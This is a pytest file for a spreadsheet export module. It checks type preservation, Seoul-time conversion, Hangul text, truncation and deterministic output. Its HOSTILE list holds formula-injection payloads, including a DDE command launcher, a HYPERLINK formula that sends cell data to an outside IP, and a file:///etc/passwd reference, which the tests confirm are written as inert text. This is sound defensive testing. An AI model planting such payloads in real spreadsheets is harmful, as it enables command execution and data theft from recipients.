"""A spreadsheet keeps every value as what it is; nothing in it acts."""

import zipfile
from collections.abc import Iterator
from datetime import UTC, date, datetime, timedelta, timezone
from io import BytesIO

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl.worksheet.worksheet import Worksheet

from bongsu.kernel.documents.sheet import (
    MOST_LETTERS,
    Cell,
    Column,
    Sheet,
    book_of,
    make_sheet,
    sheet_of,
)

MADE = datetime(2026, 11, 21, 5, 10, tzinfo=UTC)
HOSTILE = (
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://198.51.100.7/?"&A1)',
    "{=1+1}",
    "http://198.51.100.7/",
    "file:///etc/passwd",
    "00123",
    "1e9",
)


def read_back(file: bytes) -> Worksheet:
    found = openpyxl.load_workbook(BytesIO(file)).worksheets[0]
    assert isinstance(found, Worksheet)
    return found


def one_column(*cells: Cell) -> Sheet:
    return Sheet("대장", [Column("값")], [[cell] for cell in cells])


def values(file: bytes) -> list[object]:
    return [row[0].value for row in read_back(file).iter_rows(min_row=2)]


@pytest.mark.parametrize("text", HOSTILE)
async def test_a_hostile_text_is_written_as_text(text: str) -> None:
    file = await make_sheet(one_column(text), MADE)
    cell = read_back(file)["A2"]
    assert (cell.data_type, cell.hyperlink) == ("s", None)
    assert str(cell.value).replace("_x000D_", "\r").strip() == text.strip()
    parts = zipfile.ZipFile(BytesIO(file))
    assert b"<f>" not in parts.read("xl/worksheets/sheet1.xml")


async def test_what_looks_like_a_formula_stays_text_when_it_is_edited_or_saved_again() -> None:
    page = read_back(await make_sheet(one_column("=1+1", "plain"), MADE))
    assert (page["A2"].quotePrefix, page["A3"].quotePrefix) == (True, False)


async def test_types_are_kept() -> None:
    seoul_morning = datetime(2026, 11, 20, 23, 30, tzinfo=UTC)
    cells = (7, 2.5, bool(1), None, date(2026, 3, 1), seoul_morning)
    file = await make_sheet(one_column(*cells), MADE)
    assert values(file) == [
        7,
        2.5,
        True,
        None,
        datetime(2026, 3, 1),  # noqa: DTZ001 (a spreadsheet knows no zones)
        datetime(2026, 11, 21, 8, 30),  # noqa: DTZ001
    ]


async def test_a_time_of_another_zone_becomes_seoul_time() -> None:
    new_york = datetime(2026, 11, 20, 12, 0, tzinfo=timezone(timedelta(hours=-5)))
    found = values(await make_sheet(one_column(new_york), MADE))
    assert found == [datetime(2026, 11, 21, 2, 0)]  # noqa: DTZ001


async def test_numbers_that_a_spreadsheet_cannot_hold_are_written_out() -> None:
    file = await make_sheet(one_column(2**60, float("inf"), float("nan")), MADE)
    assert values(file) == [str(2**60), "inf", "nan"]


async def test_hangul_and_every_plane_come_back() -> None:
    texts = ["성북경찰서 112치안종합상황실", "漢字 😀", "가\u0301"]
    assert values(await make_sheet(one_column(*texts), MADE)) == texts


async def test_a_text_longer_than_a_cell_is_cut_and_says_so() -> None:
    (found,) = values(await make_sheet(one_column("가" * (MOST_LETTERS + 5)), MADE))
    assert isinstance(found, str)
    assert (len(found), found[-1]) == (MOST_LETTERS, "…")


async def test_the_head_stays_in_view_and_on_every_page() -> None:
    page = read_back(await make_sheet(one_column("값"), MADE))
    assert page.freeze_panes == "A2"
    assert page.print_title_rows == "$1:$1"


async def test_what_is_known_about_the_table_has_its_own_sheet() -> None:
    sheet = Sheet("대장", [Column("값")], [["가"]], about=[("기간", "2026-11"), ("건수", 1)])
    book = openpyxl.load_workbook(BytesIO(await make_sheet(sheet, MADE)))
    assert book.sheetnames == ["대장", "작성 정보"]
    assert [tuple(cell.value for cell in row) for row in book["작성 정보"].iter_rows()] == [
        ("기간", "2026-11"),
        ("건수", 1),
    ]


async def test_the_same_input_makes_the_same_bytes() -> None:
    sheet = one_column("가", 1, MADE)
    assert await make_sheet(sheet, MADE) == await make_sheet(sheet, MADE)


async def test_ten_thousand_rows_pass_one_by_one() -> None:
    drawn = 0

    def rows() -> Iterator[list[Cell]]:
        nonlocal drawn
        for drawn in range(1, 10_001):
            yield [drawn, "제공"]

    file = await make_sheet(Sheet("대장", [Column("번호"), Column("구분")], rows()), MADE)
    assert drawn == 10_000
    assert read_back(file).max_row == 10_001


@settings(max_examples=60, deadline=None)
@given(st.text(st.characters(exclude_categories=["Cs", "Cc", "Cn"]), min_size=1, max_size=40))
def test_any_text_comes_back_as_text(text: str) -> None:
    cell = read_back(sheet_of(one_column(text), MADE))["A2"]
    assert cell.data_type == "s"
    assert cell.value == text


def test_several_tables_lie_in_one_file_in_their_order() -> None:
    money = Sheet("재원", [Column("원", thousands=True)], [[1_220_000_000]])
    book = openpyxl.load_workbook(BytesIO(book_of("계획", [one_column("a"), money], MADE)))
    assert book.sheetnames == ["대장", "재원"]
    cell = book["재원"]["A2"]
    assert (cell.value, cell.number_format) == (1_220_000_000, "#,##0")
    assert book.properties.title == "계획"
